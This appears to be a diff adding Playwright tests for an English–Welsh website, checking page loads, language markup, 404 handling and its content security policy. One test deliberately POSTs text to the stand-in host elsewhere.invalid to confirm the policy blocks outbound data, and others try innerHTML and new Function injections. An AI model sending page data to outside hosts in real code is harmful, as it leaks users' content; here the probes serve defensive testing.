@@ -1,0 +1,101 @@
+import { builtPages, expect, inEachLanguage, test, watch } from './fixtures.ts';
+
+inEachLanguage((language) => {
+	test('every page opens with the site’s own files and without a complaint', async ({
+		page,
+		traffic
+	}) => {
+		test.slow();
+		const pages = builtPages(language);
+		expect(pages.length).toBeGreaterThan(0);
+		for (const path of pages) {
+			const answer = await page.goto(path, { waitUntil: 'networkidle' });
+			expect(answer?.status(), path).toBe(200);
+			expect(traffic.troubles(), path).toEqual([]);
+		}
+		expect(traffic.requests.length).toBeGreaterThanOrEqual(pages.length);
+	});
+
+	test('a page says its language and its title before any script runs', async ({ request }) => {
+		for (const path of builtPages(language)) {
+			const html = await (await request.get(path)).text();
+			expect(html, path).toMatch(new RegExp(`<html[^>]* lang="${language}"`));
+			expect(html, path).toMatch(/<title>[^<]+<\/title>/);
+			expect(html, path).toMatch(/<h1[\s>]/);
+		}
+	});
+});
+
+test('both languages have the same pages', () => {
+	const [english, welsh] = [builtPages('en'), builtPages('cy')];
+	expect(welsh.map((path) => path.slice(3))).toEqual(english.map((path) => path.slice(3)));
+});
+
+test('the page’s policy keeps words from going anywhere else', async ({ page, traffic }) => {
+	traffic.expectTrouble(/elsewhere\.invalid/);
+	await page.goto('/en/');
+	const outcome = await page.evaluate(() =>
+		fetch('https://elsewhere.invalid/', { method: 'POST', body: 'words' }).then(
+			() => 'sent',
+			() => 'stopped'
+		)
+	);
+	expect(outcome).toBe('stopped');
+	expect(traffic.requests.filter((url) => url.includes('elsewhere.invalid'))).toEqual([]);
+});
+
+test('a string cannot become markup or script', async ({ page, traffic }) => {
+	traffic.expectTrouble(/TrustedHTML|require-trusted-types-for|unsafe-eval|script-src/);
+	await page.goto('/en/');
+	const outcome = await page.evaluate(() => {
+		const refused = (attempt: () => unknown) => {
+			try {
+				attempt();
+				return false;
+			} catch {
+				return true;
+			}
+		};
+		return [
+			refused(() => (document.createElement('p').innerHTML = '<b>words</b>')),
+			refused(() => new Function('return 1')())
+		];
+	});
+	expect(outcome).toEqual([true, true]);
+});
+
+test('an address that is no page answers 404 in a page of ours', async ({ request }) => {
+	const answer = await request.get('/en/nowhere/');
+	expect(answer.status()).toBe(404);
+	expect(await answer.text()).toMatch(/<html/);
+});
+
+test('trouble is seen: another site, a console error, a broken policy', async ({
+	browser,
+	origin
+}) => {
+	const context = await browser.newContext({ baseURL: origin, bypassCSP: true });
+	const traffic = await watch(context, origin);
+	const page = await context.newPage();
+	await page.goto('/en/');
+	await page.evaluate(() => {
+		console.error('planted');
+		document.dispatchEvent(
+			new SecurityPolicyViolationEvent('securitypolicyviolation', {
+				effectiveDirective: 'img-src',
+				blockedURI: 'planted',
+				documentURI: location.href,
+				violatedDirective: 'img-src',
+				originalPolicy: '',
+				disposition: 'enforce',
+				statusCode: 200
+			})
+		);
+		return fetch('http://localhost:9/planted').catch(() => undefined);
+	});
+	const troubles = traffic.troubles().join('\n');
+	expect(troubles).toContain('asked for http://localhost:9/planted');
+	expect(troubles).toContain('console: planted');
+	expect(troubles).toContain('policy img-src stopped planted');
+	await context.close();
+});
